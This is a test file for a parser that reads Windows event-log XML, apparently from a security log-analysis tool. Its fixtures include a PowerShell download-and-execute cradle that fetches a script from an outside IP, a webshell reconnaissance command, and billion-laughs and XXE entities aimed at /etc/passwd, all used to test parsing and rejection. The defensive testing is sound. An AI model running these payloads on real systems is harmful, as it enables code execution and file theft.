import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { XmlEventParser } from '../../../src/events/read-xml.js';
import {
  errorsOf,
  feedInPieces,
  fieldsOf,
  readAll,
  recordsOf,
  resolveFixture,
  summarize,
  useScratch,
} from './read-test-helpers.js';

const scratch = useScratch();

const NS = 'xmlns="http://schemas.microsoft.com/win/2004/08/events/event"';
const sysmonEvent = (id: number, image: string): string =>
  `<Event ${NS}><System><EventID>${id}</EventID><Channel>Microsoft-Windows-Sysmon/Operational</Channel></System>` +
  `<EventData><Data Name="Image">${image}</Data></EventData></Event>`;

describe('Windows Event XML', () => {
  it('reads the seed write-up sample pasted from Event Viewer with "- " markers', async () => {
    const items = await readAll(resolveFixture('seed-4688-pasted.xml'));
    expect(errorsOf(items)).toEqual([]);
    const [record] = recordsOf(items);
    expect(record).toBeDefined();
    expect(record?.index).toBe(0);
    expect(record?.channel).toBe('Security');
    expect(record?.eventId).toBe(4688);
    expect(record?.version).toBe(2);
    expect(record?.get('Provider_Name')).toBe('Microsoft-Windows-Security-Auditing');
    expect(record?.get('TimeCreated_SystemTime')).toBe('2015-11-12T02:24:52.377352500Z');
    expect(record?.get('Execution_ProcessID')).toBe('4');
    expect(record?.get('Execution_ThreadID')).toBe('400');
    expect(record?.get('Computer')).toBe('WIN-GG82ULGC9GO.contoso.local');
    // The write-up escaped its backslashes; the sample is kept verbatim, so they stay doubled.
    expect(record?.get('NewProcessName')).toBe('C:\\\\Windows\\\\System32\\\\rundll32.exe');
    expect(record?.get('ParentProcessName')).toBe('C:\\\\Windows\\\\explorer.exe');
    expect(record?.get('TokenElevationType')).toBe('%%1938');
    expect(record?.get('CommandLine')).toBe('');
    expect(record?.get('MandatoryLabel')).toBe('S-1-16-8192');
    // Empty System elements without attributes carry nothing.
    expect(record?.fieldNames()).not.toContain('Correlation');
    expect(record?.fieldNames()).not.toContain('Security');
  });

  it('flattens System attributes, EventData, UserData, unnamed Data, prefixes and CDATA', async () => {
    const records = recordsOf(await readAll(resolveFixture('events-mixed.xml')));
    expect(records.map((r) => [r.index, r.channel, r.eventId])).toEqual([
      [0, 'Security', 1102],
      [1, 'System', 7036],
      [2, 'Microsoft-Windows-PowerShell/Operational', 4104],
    ]);
    const [cleared, service, script] = records;
    expect(cleared?.get('SubjectUserName')).toBe('dadmin');
    expect(cleared?.get('SubjectLogonId')).toBe('0x4a5af0');
    expect(service?.get('EventID')).toBe('7036');
    expect(service?.get('EventID_Qualifiers')).toBe('16384');
    expect(service?.get('Provider_EventSourceName')).toBe('Service Control Manager');
    expect(service?.get('Data')).toEqual(['Windows Update', 'running']);
    expect(service?.get('Binary')).toBe('770075006100750073007600630000000000');
    expect(script?.get('ScriptBlockText')).toBe("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.50/a.ps1')");
    expect(script?.get('Path')).toBe('');
    expect(script?.get('Correlation_ActivityID')).toBe('{1B5C3A5E-71E3-0001-C7B4-5C1BE371D901}');
    expect(script?.get('Security_UserID')).toBe('S-1-5-82-3006700770-424185619-1745488364-794895919-4004696415');
    // RenderingInfo is display text, not event data.
    expect(script?.fieldNames()).not.toContain('Message');
  });

  it('decodes entities and keeps field order as written', async () => {
    const [record] = recordsOf(await readAll(resolveFixture('sysmon-1-webshell.xml')));
    expect(record?.get('CommandLine')).toBe('cmd.exe /c "whoami /all & ipconfig"');
    expect(record?.fieldNames().slice(0, 4)).toEqual(['Provider_Name', 'Provider_Guid', 'EventID', 'Version']);
    expect(record?.fieldNames().at(-1)).toBe('ParentUser');
  });

  it('reports a malformed event with its position and still reads the events around it', async () => {
    const text = [
      sysmonEvent(1, 'a.exe'),
      `<Event ${NS}><System><EventID>1</EventID></Syst></Event>`,
      sysmonEvent(1, 'c.exe'),
    ].join('\n');
    const items = await scratch.read('malformed.xml', text);
    expect(recordsOf(items).map((r) => [r.index, r.get('Image')])).toEqual([
      [0, 'a.exe'],
      [2, 'c.exe'],
    ]);
    const [error] = errorsOf(items);
    expect(error?.index).toBe(1);
    expect(error?.diagnostic).toMatchObject({ code: 'events/malformed-xml', line: 2, file: scratch.dir + '/malformed.xml' });
    expect(error?.diagnostic.column).toBeGreaterThan(1);
  });

  it('takes an event cut short by the next <Event> as truncated, keeping positions', async () => {
    const text = `<Events>\n<Event ${NS}><System><EventID>1</EventID>\n${sysmonEvent(3, 'b.exe')}\n</Events>`;
    const items = await scratch.read('truncated.xml', text);
    expect(summarize(items)).toEqual([
      { error: 'events/truncated', index: 0, line: 2, column: 1 },
      expect.objectContaining({ index: 1 }),
    ]);
    expect(recordsOf(items)[0]?.get('Image')).toBe('b.exe');
  });

  it('reports a file that ends inside an event', async () => {
    const items = await scratch.read('cut.xml', `${sysmonEvent(1, 'a.exe')}\n<Event ${NS}><System>`);
    expect(summarize(items)).toEqual([expect.objectContaining({ index: 0 }), { error: 'events/truncated', index: 1, line: 2, column: 1 }]);
  });

  it('refuses DOCTYPE and never expands entities (billion laughs, external entities)', async () => {
    const text = [
      '<?xml version="1.0"?>',
      '<!DOCTYPE Events [',
      '  <!ENTITY lol "lol">',
      '  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">',
      '  <!ENTITY xxe SYSTEM "file:///etc/passwd">',
      ']>',
      '<Events>',
      `<Event ${NS}><System><EventID>1</EventID></System><EventData><Data Name="Image">&lol2;</Data></EventData></Event>`,
      `<Event ${NS}><System><EventID>1</EventID></System><EventData><Data Name="Image">&xxe;</Data></EventData></Event>`,
      sysmonEvent(1, 'fine.exe'),
      '</Events>',
    ].join('\n');
    const items = await scratch.read('doctype.xml', text);
    expect(summarize(items)).toEqual([
      { error: 'events/doctype-rejected', index: undefined, line: 2, column: 1 },
      { error: 'events/malformed-xml', index: 0, line: 8, column: expect.any(Number) },
      { error: 'events/malformed-xml', index: 1, line: 9, column: expect.any(Number) },
      expect.objectContaining({ index: 2 }),
    ]);
    expect(errorsOf(items)[1]?.diagnostic.message).toMatch(/undefined entity/);
    expect(JSON.stringify(items)).not.toContain('lollol');
  });

  it('reads a self-closing <Event/> as an event without fields', async () => {
    const items = await scratch.read('empty-event.xml', `<Event ${NS}/>\n${sysmonEvent(1, 'x.exe')}`);
    const records = recordsOf(items);
    expect(records.map((r) => [r.index, r.fieldNames().length])).toEqual([
      [0, 0],
      [1, 3],
    ]);
  });

  it('skips an event larger than the cap without keeping it, then reads on', () => {
    const parser = new XmlEventParser('big.xml', { maxEventChars: 1000 });
    const text = `${sysmonEvent(1, 'a.exe')}\n<Event ${NS}><EventData><Data Name="Image">${'x'.repeat(5000)}</Data></EventData></Event>\n${sysmonEvent(1, 'c.exe')}`;
    const items = feedInPieces(parser, text, [300]);
    expect(summarize(items).map((s) => (s as { error?: string; index: number }).error ?? (s as { index: number }).index)).toEqual([
      0,
      'events/record-too-large',
      2,
    ]);
    expect(errorsOf(items)[0]?.index).toBe(1);
  });

  it('reads an event longer than the search window whole, wherever the chunks fall', () => {
    const long = 'x'.repeat(5000);
    const text = `${sysmonEvent(1, long)}\n${sysmonEvent(1, 'b.exe')}`;
    for (const sizes of [[300], [1, 499], [text.length]]) {
      const items = feedInPieces(new XmlEventParser('long.xml', { stashChars: 500 }), text, sizes);
      expect(errorsOf(items)).toEqual([]);
      expect(recordsOf(items).map((r) => r.get('Image'))).toEqual([long, 'b.exe']);
      expect(recordsOf(items)[1]?.index).toBe(1);
    }
  });

  it('gives the same result however the text is cut into chunks', () => {
    const text = readFileSync(resolveFixture('events-mixed.xml'), 'utf8') + readFileSync(resolveFixture('seed-4688-pasted.xml'), 'utf8');
    const whole = summarize(feedInPieces(new XmlEventParser('f.xml'), text, [text.length]));
    expect(whole).toHaveLength(4);
    for (const sizes of [[1], [7, 3], [64], [65, 1, 200]]) {
      expect(summarize(feedInPieces(new XmlEventParser('f.xml'), text, sizes))).toEqual(whole);
    }
  });

  it('warns when an XML file has no <Event> at all', async () => {
    const items = await scratch.read('none.xml', '<?xml version="1.0"?><Events></Events>');
    expect(summarize(items)).toEqual([{ error: 'events/no-events', index: undefined, line: 1, column: 1 }]);
    expect(errorsOf(items)[0]?.diagnostic.severity).toBe('warning');
  });

  it('does not let an attribute named __proto__ reach Object.prototype', async () => {
    const text = `<Event ${NS}><System><Provider __proto__="polluted" Name="p"/><EventID>1</EventID></System></Event>`;
    const [record] = recordsOf(await scratch.read('proto.xml', text));
    expect(record?.get('Provider___proto__')).toBe('polluted');
    expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
    expect(Object.prototype).not.toHaveProperty('polluted');
  });

  it('reads UserData leaves and their attributes', async () => {
    const text =
      `<Event ${NS}><System><EventID>104</EventID><Channel>System</Channel></System><UserData>` +
      '<LogFileCleared xmlns="http://manifests.microsoft.com/win/2004/08/windows/eventlog">' +
      '<SubjectUserName>bob</SubjectUserName><Channel Kind="log">Application</Channel><Nested><Deep>1</Deep></Nested>' +
      '</LogFileCleared></UserData></Event>';
    const [record] = recordsOf(await scratch.read('userdata.xml', text));
    // A UserData leaf named like a System element does not hide the event's channel.
    expect(record?.channel).toBe('System');
    expect(fieldsOf(record!)).toEqual({
      EventID: '104',
      Channel: ['System', 'Application'],
      SubjectUserName: 'bob',
      Channel_Kind: 'log',
      Deep: '1',
    });
  });
});
